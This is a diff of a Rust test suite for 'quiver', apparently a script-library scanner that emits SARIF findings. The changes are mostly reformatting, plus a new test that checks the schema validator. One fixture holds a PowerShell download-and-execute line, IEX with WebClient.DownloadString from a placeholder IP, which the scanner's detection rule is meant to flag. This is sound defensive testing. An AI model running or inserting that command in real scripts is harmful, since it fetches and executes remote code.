@@ -21,7 +21,10 @@ fn schema_check(sarif: &Value) {
     // published file) that a strict `format: regex` check of the schema itself rejects;
     // use the pattern they meant. Nothing quiver writes has a `language`.
     let fixed = fix_language_patterns(&mut schema);
-    assert!(fixed >= 1, "the schema changed; revisit fix_language_patterns");
+    assert!(
+        fixed >= 1,
+        "the schema changed; revisit fix_language_patterns"
+    );
     let validator = jsonschema::draft7::options()
         .should_validate_formats(true)
         .build(&schema)
@@ -51,7 +54,11 @@ fn fix_language_patterns(v: &mut Value) -> usize {
 
 fn github_check(sarif: &Value) -> &Vec<Value> {
     assert_eq!(sarif["version"], "2.1.0");
-    assert!(sarif["$schema"].as_str().is_some_and(|s| s.contains("sarif")));
+    assert!(
+        sarif["$schema"]
+            .as_str()
+            .is_some_and(|s| s.contains("sarif"))
+    );
     let run = &sarif["runs"][0];
     assert_eq!(run["tool"]["driver"]["name"], "quiver");
     let rules = run["tool"]["driver"]["rules"].as_array().expect("rules");
@@ -59,7 +66,10 @@ fn github_check(sarif: &Value) -> &Vec<Value> {
     for r in results {
         let loc = &r["locations"][0]["physicalLocation"];
         let uri = loc["artifactLocation"]["uri"].as_str().expect("uri");
-        assert!(!uri.is_empty() && !uri.starts_with('/') && !uri.contains('\\'), "{uri}");
+        assert!(
+            !uri.is_empty() && !uri.starts_with('/') && !uri.contains('\\'),
+            "{uri}"
+        );
         let line = loc["region"]["startLine"].as_u64().expect("startLine");
         assert!(line >= 1, "{r}");
         if let Some(col) = loc["region"]["startColumn"].as_u64() {
@@ -83,7 +93,8 @@ fn sarif_of(repo: &Repo) -> (i32, Value) {
 #[test]
 fn findings_waivers_and_file_level_results_are_valid_sarif() {
     let repo = Repo::new();
-    let stage = "# stage two\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\n";
+    let stage =
+        "# stage two\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\n";
     repo.script("stage", "windows", "powershell", "stage.ps1", utf16le(stage))
         .script("waived", "windows", "powershell", "stage.ps1", stage)
         .script("crlf", "linux", "sh", "run.sh", "#!/bin/sh\r\nid\r\n")
@@ -94,8 +105,11 @@ fn findings_waivers_and_file_level_results_are_valid_sarif() {
             "[[waiver]]\nscript = \"waived\"\nrule = \"download-exec.powershell\"\nreason = \"pulls the collector from the internal mirror, pinned by hash\"\nby = \"lead\"\n",
         );
     // A file-level finding: an executable without a signature.
-    repo.file("tool/script.toml", support::manifest("tool", "linux", "executable", "collector"))
-        .file("tool/collector", b"\x7fELF\x02\x01\x01\0binary".to_vec());
+    repo.file(
+        "tool/script.toml",
+        support::manifest("tool", "linux", "executable", "collector"),
+    )
+    .file("tool/collector", b"\x7fELF\x02\x01\x01\0binary".to_vec());
     let (code, sarif) = sarif_of(&repo);
     assert_eq!(code, 1);
     schema_check(&sarif);
@@ -110,7 +124,10 @@ fn findings_waivers_and_file_level_results_are_valid_sarif() {
         })
         .expect("the UTF-16 finding");
     assert_eq!(stage["level"], "error");
-    assert_eq!(stage["locations"][0]["physicalLocation"]["region"]["startLine"], 2);
+    assert_eq!(
+        stage["locations"][0]["physicalLocation"]["region"]["startLine"],
+        2
+    );
     assert!(stage.get("suppressions").is_none());
 
     let waived = results
@@ -123,8 +140,7 @@ fn findings_waivers_and_file_level_results_are_valid_sarif() {
     assert_eq!(waived["suppressions"][0]["kind"], "external");
     let spaced = results
         .iter()
-        .find(|r| r["ruleId"] == "encoding.crlf"
-            && r["properties"]["script"] == "spaced")
+        .find(|r| r["ruleId"] == "encoding.crlf" && r["properties"]["script"] == "spaced")
         .expect("the finding in a folder with a space");
     assert_eq!(
         spaced["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
@@ -148,6 +164,22 @@ fn findings_waivers_and_file_level_results_are_valid_sarif() {
 }
 
 #[test]
+fn the_schema_check_catches_a_misspelt_property() {
+    // Guards the guard: a check that accepts anything would make the tests above moot.
+    let repo = Repo::new();
+    repo.script("crlf", "linux", "sh", "run.sh", "#!/bin/sh\r\nid\r\n");
+    let (_, mut sarif) = sarif_of(&repo);
+    schema_check(&sarif);
+    let result = sarif["runs"][0]["results"][0]
+        .as_object_mut()
+        .expect("one result");
+    let id = result.remove("ruleId").expect("ruleId");
+    result.insert("ruleID".into(), id);
+    let outcome = std::panic::catch_unwind(|| schema_check(&sarif));
+    assert!(outcome.is_err(), "`ruleID` must be refused by the schema");
+}
+
+#[test]
 fn policy_errors_are_valid_sarif_results() {
     let repo = Repo::new();
     repo.policy(
@@ -163,7 +195,10 @@ fn policy_errors_are_valid_sarif_results() {
         results[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
         "policies/members.toml"
     );
-    assert_eq!(results[0]["locations"][0]["physicalLocation"]["region"]["startLine"], 6);
+    assert_eq!(
+        results[0]["locations"][0]["physicalLocation"]["region"]["startLine"],
+        6
+    );
 }
 
 #[test]
@@ -184,8 +219,14 @@ fn example_library_sarif_is_valid_and_repository_relative() {
         assert!(uri.starts_with("example-library/"), "{uri}");
     }
     // Every built-in check and every content rule is described.
-    let rules = sarif["runs"][0]["tool"]["driver"]["rules"].as_array().unwrap();
-    for id in ["path.symlink", "signature.missing", "download-exec.powershell"] {
+    let rules = sarif["runs"][0]["tool"]["driver"]["rules"]
+        .as_array()
+        .unwrap();
+    for id in [
+        "path.symlink",
+        "signature.missing",
+        "download-exec.powershell",
+    ] {
         assert!(rules.iter().any(|r| r["id"] == id), "rule {id} described");
     }
 }
